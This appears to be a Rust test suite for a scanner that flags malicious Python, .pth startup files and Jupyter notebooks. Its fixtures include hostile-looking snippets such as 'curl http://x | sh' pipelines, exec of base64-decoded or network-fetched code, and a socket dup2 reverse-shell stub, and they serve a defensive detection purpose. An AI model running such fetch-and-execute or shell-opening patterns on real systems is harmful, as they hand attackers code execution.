use crate::{Format, Report, ScanOptions, Verdict, scan};
use proptest::prelude::*;

fn scanned(text: &str, name: &str) -> Report {
    scan(&text.as_bytes(), name, &ScanOptions::default())
}

#[track_caller]
fn malicious(text: &str) {
    let report = scanned(text, "modeling_x.py");
    assert_eq!((report.format, report.verdict, report.findings[0].rule_id), (Format::Python, Verdict::Malicious, "PICKET-PY-001"), "{text}\n{report:#?}");
}

#[track_caller]
fn clean(text: &str) {
    let report = scanned(text, "modeling_x.py");
    assert_eq!((report.format, report.verdict), (Format::Python, Verdict::Clean), "{text}\n{report:#?}");
}

#[test]
fn commands_on_import() {
    malicious("import os\nos.system('id')\n");
    malicious("import os as harmless\nclass A:\n    x = harmless.system('id')\n");
    malicious("from os import system as s, path\ns('id')\n");
    malicious("import subprocess\nif True:\n    for i in range(3):\n        subprocess.run(['/bin/sh', '-c', 'id'])\n");
    malicious("__import__('os').system('id')\n");
    malicious("def f():\n    pass\nimport os; os.popen('id')\n");
    malicious("from subprocess import (\n    Popen as P,\n    PIPE,\n)\nx = 1\nP('id', shell=True)\n");
    malicious("import os\nif __name__ != '__main__':\n    os.system('id')\n");
    malicious("import os\nif __name__ == '__main__' or True:\n    os.system('id')\n");
    malicious("import os\nif __name__ == '__main__':\n    pass\nelse:\n    os.system('id')\n");
    malicious("import os\ndef g(x): return x\nos.system('id')\n");
}

#[test]
fn payloads_wherever_they_run() {
    malicious("import base64\ndef f():\n    exec(base64.b64decode('aWQ='))\n");
    malicious("import urllib.request as u\nclass A:\n    def f(self):\n        exec(u.urlopen('http://x').read())\n");
    malicious("import os\ndef f():\n    os.system('curl http://x | sh')\n");
    malicious("import marshal, zlib\ndef f():\n    exec(marshal.loads(zlib.decompress(b'')))\n");
    malicious("import socket, os\ndef f():\n    s = socket.socket()\n    os.dup2(s.fileno(), 0)\n");
}

#[test]
fn what_programs_do() {
    clean("import subprocess\ndef f():\n    return subprocess.run(['git', 'rev-parse'])\n");
    clean("import os\nif __name__ == '__main__':\n    os.system('id')\n");
    clean("import os, sys\nif sys.platform != 'x' and __name__ == \"__main__\":  # comment\n    def f():\n        pass\n\n    os.system('id')\n");
    clean("'''\nimport os\nos.system('id')\n'''\n# os.system('id')\nx = \"os.system('id')\"\n");
    clean("import torch\nmodel = torch.nn.Linear(1, 2)\nmodel.eval()\nf = torch.compile(model)\n");
    clean("class A:\n    def system(self):\n        pass\n\n    def f(self):\n        self.system()\n\nA().f()\n");
    clean("def exec(x):\n    pass\n");
    clean("import os\nasync def f():\n    os.system('id')\n\n\nx = os.path.join('a', 'b')\n");
    clean("from . import os\n");
}

#[test]
fn start_up_files() {
    let report = scanned("import os; exec(open('/tmp/x').read())\n", "evil.pth");
    assert_eq!((report.format, report.verdict, report.findings[0].rule_id), (Format::Pth, Verdict::Malicious, "PICKET-PY-003"), "{report:#?}");
    assert_eq!(scanned("import something\n", "something.pth").verdict, Verdict::Suspicious);
    assert_eq!(scanned("import _virtualenv\n", "_virtualenv.pth").verdict, Verdict::Clean);
    assert_eq!(scanned("/usr/lib/python3/dist-packages\n../other\n", "paths.pth").verdict, Verdict::Clean);
}

#[test]
fn notebooks() {
    let notebook = |source: &str| {
        format!(
            r#"{{"nbformat": 4, "metadata": {{}}, "cells": [{{"cell_type": "markdown", "source": ["os.system('id')"]}}, {{"cell_type": "code", "source": {source}}}]}}"#
        )
    };
    for source in [r#"["!curl http://x | bash\n", "x = 1"]"#, r#""%%bash\nwget -qO- http://x | sh""#, r#""!echo aWQ= | base64 -d | sh""#] {
        let report = scanned(&notebook(source), "n.ipynb");
        assert_eq!((report.format, report.verdict, report.findings[0].rule_id), (Format::Notebook, Verdict::Malicious, "PICKET-NBK-001"), "{report:#?}");
    }
    let report = scanned(&notebook(r#"["import base64\n", "exec(base64.b64decode('aWQ='))\n"]"#), "n.ipynb");
    assert_eq!((report.verdict, report.findings[0].evidence.key.as_deref()), (Verdict::Malicious, Some("cells[1]")), "{report:#?}");
    for source in [r#"["!pip install torch\n", "!ls | head\n", "import os\n", "os.system('ls')\n"]"#, r#""!curl -O http://x/data.csv""#] {
        let report = scanned(&notebook(source), "n.ipynb");
        assert_eq!((report.format, report.verdict), (Format::Notebook, Verdict::Clean), "{report:#?}");
    }
}

proptest! {
    #[test]
    fn any_source_ends(text in r#"(def |class |import |from |as |if |__name__|exec|os|\.|\(|\)|:|\n|    |'|"|'''|#|\\|,|;|x){0,80}"#) {
        scanned(&text, "x.py");
    }

    #[test]
    fn any_text_ends(text in "\\PC{0,200}") {
        scanned(&text, "x.py");
    }
}
